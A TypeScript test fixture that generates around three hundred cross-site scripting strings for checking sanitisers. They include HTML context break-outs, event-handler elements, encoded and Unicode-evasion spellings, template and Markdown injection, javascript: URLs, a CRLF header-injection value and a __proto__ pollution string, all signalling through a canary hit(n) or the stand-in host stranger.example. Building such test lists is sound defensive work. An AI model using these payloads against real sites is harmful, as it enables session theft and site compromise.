/** Where nothing may ever be asked for. */
export const stranger = "stranger.example";

type Piece = (n: number) => string;

/** What ends the context in which the words may stand: text, attributes, raw text, comments, strings. */
const breakOuts = [
  "",
  '">',
  "'>",
  "</textarea>",
  "</title></option></select>",
  "</script>",
  "</style>",
  "-->",
  "]]>",
  "</noscript></template>",
  "</svg></math>",
  "\\\"`'>",
];

const elements: readonly Piece[] = [
  (n) => `<script>hit(${n})</script>`,
  (n) => `<img src=x onerror=hit(${n})>`,
  (n) => `<svg onload=hit(${n})>`,
  (n) => `<svg><script href=data:,hit(${n}) /></svg>`,
  (n) => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.hit(${n})"></iframe>`,
  (n) => `<a href="javascript:hit(${n})" autofocus onfocus=hit(${n})>here</a>`,
  (n) => `<input autofocus onfocus=hit(${n})>`,
  (n) => `<details open ontoggle=hit(${n})><summary>x</summary></details>`,
  (n) => `<video><source onerror=hit(${n})></video>`,
  (n) => `<object data="//${stranger}/${n}"></object>`,
  (n) => `<embed src="//${stranger}/${n}">`,
  (n) => `<form action="//${stranger}/${n}"><button formaction="javascript:hit(${n})" id=go>go</button></form>`,
  (n) => `<style>@import "//${stranger}/${n}";*{background:url(//${stranger}/${n})}</style>`,
  (n) => `<link rel=stylesheet href=//${stranger}/${n}>`,
  (n) => `<img src=//${stranger}/${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=//${stranger}/${n}">`,
  (n) => `<base href=//${stranger}/${n}/>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(${n})&gt;">`,
  (n) => `<div style="animation:x" onanimationstart=hit(${n}) onpointerenter=hit(${n})>x</div>`,
];

const others: readonly Piece[] = [
  (n) => `" autofocus onfocus=hit(${n}) x="`,
  (n) => `' autofocus onfocus=hit(${n}) x='`,
  (n) => `\` autofocus onfocus=hit(${n}) x=\``,
  (n) => `x onfocus=hit(${n}) autofocus`,
  (n) => `" style="background:url(//${stranger}/${n})" x="`,
  // Strings of scripts and of JSON in a page.
  (n) => `";hit(${n});//`,
  (n) => `';hit(${n});//`,
  (n) => `\\";hit(${n});//`,
  (n) => `\u2028hit(${n})\u2029`,
  (n) => `</ScRiPt\t><ScRiPt\n>hit(${n})</sCrIpT >`,
  (n) => `<!--<script>hit(${n})</script>-->`,
  (n) => `{"__proto__":{"innerHTML":"<img src=x onerror=hit(${n})>"}}`,
  // Spelt so that one decoding, or one more than there should be, makes an element of it.
  (n) => `&#60;img src=x onerror=hit(${n})&#62;`,
  (n) => `&#x3c;img src=x onerror=hit(${n})&#x3e;`,
  (n) => `&lt;img src=x onerror=hit(${n})&gt;`,
  (n) => `&amp;lt;img src=x onerror=hit(${n})&amp;gt;`,
  (n) => `%3Cimg%20src=x%20onerror=hit(${n})%3E`,
  (n) => `%253Cimg%2520src=x%2520onerror=hit(${n})%253E`,
  (n) => `\\u003cimg src=x onerror=hit(${n})\\u003e`,
  (n) => `\\x3cimg src=x onerror=hit(${n})\\x3e`,
  (n) => `+ADw-script+AD4-hit(${n})+ADw-/script+AD4-`,
  (n) => `<img/src=x/onerror=hit(${n})//`,
  (n) => `<<img src=x onerror=hit(${n})>`,
  (n) => `<img src=x onerror=hit(${n}) `,
  (n) => `<scr\u0000ipt>hit(${n})</scr\u0000ipt>`,
  (n) => `<scr<script>ipt>hit(${n})</scr</script>ipt>`,
  // Signs that a normalisation, a change of case or a careless filter turns into others.
  (n) => `\uff1cimg src=x onerror=hit(${n})\uff1e`,
  (n) => `\ufe64img src=x onerror=hit(${n})\ufe65`,
  (n) => `<\u017fcript>hit(${n})</\u017fcript>`,
  (n) => `<\u0130mg src=x onerror=hit(${n})>`,
  (n) => `\u202e>(${n})tih=rorreno x=crs gmi<`,
  (n) => `<\u200bimg src=x onerror=hit(${n})>`,
  (n) => `\ufeff<img src=x onerror=hit(${n})>`,
  (n) => `\ud800<img src=x onerror=hit(${n})>\udfff`,
  // Templates of other people's making.
  (n) => `{{constructor.constructor('hit(${n})')()}}`,
  (n) => `\${hit(${n})}`,
  (n) => `#{hit(${n})}`,
  (n) => `<%= hit(${n}) %>`,
  (n) => `{hit(${n})}`,
  (n) => `{n, plural, other {<img src=x onerror=hit(${n})>}}`,
  (n) => `<b>{name}</b> '{' <1><img src=x onerror=hit(${n})></1>`,
  (n) => `{% raw %}<img src=x onerror=hit(${n})>{% endraw %}`,
  (n) => `[[hit(${n})]] v-on:mounted="hit(${n})" x-init="hit(${n})"`,
  // Markdown.
  (n) => `[here](javascript:hit(${n}))`,
  (n) => `![here](//${stranger}/${n})`,
  (n) => `<javascript:hit(${n})>`,
  (n) => `[a]\n\n[a]: javascript:hit(${n}) "x"`,
  (n) => `<http://${stranger}/${n}>`,
  // Addresses: where one is made a link of, loaded, or looked up beforehand.
  (n) => `javascript:hit(${n})`,
  (n) => `JaVa\tScRiPt:hit(${n})`,
  (n) => `\u0001javascript:hit(${n})`,
  (n) => `javascript://%0ahit(${n})`,
  (n) => `vbscript:hit(${n})`,
  (n) => `data:text/html,<script>parent.hit(${n})</script>`,
  (n) => `http://${stranger}/${n}`,
  (n) => `//${stranger}/${n}`,
  (n) => `https://u:p@${stranger}/${n}?"onclick="hit(${n})`,
  (n) => `..//${stranger}/${n}\r\nLocation: //${stranger}/${n}\r\n\r\n<script>hit(${n})</script>`,
  (n) => `mailto:a@${stranger}?subject=<img src=x onerror=hit(${n})>`,
  (n) => `url(//${stranger}/${n})`,
];

/**
 * Three hundred ways of writing words that would like to be a program: every break-out of a context before every kind of
 * element, then spellings, templates, Markdown, addresses and signs. Each calls `hit(n)`, or asks `stranger.example/n`
 * for something, so that whichever ran or loaded says its number. Short enough for the shortest field.
 */
export const hostileWords: readonly string[] = [
  ...breakOuts.flatMap((before) =>
    elements.map(
      (element): Piece =>
        (n) =>
          before + element(n),
    ),
  ),
  ...others,
].map((piece, n) => piece(n));
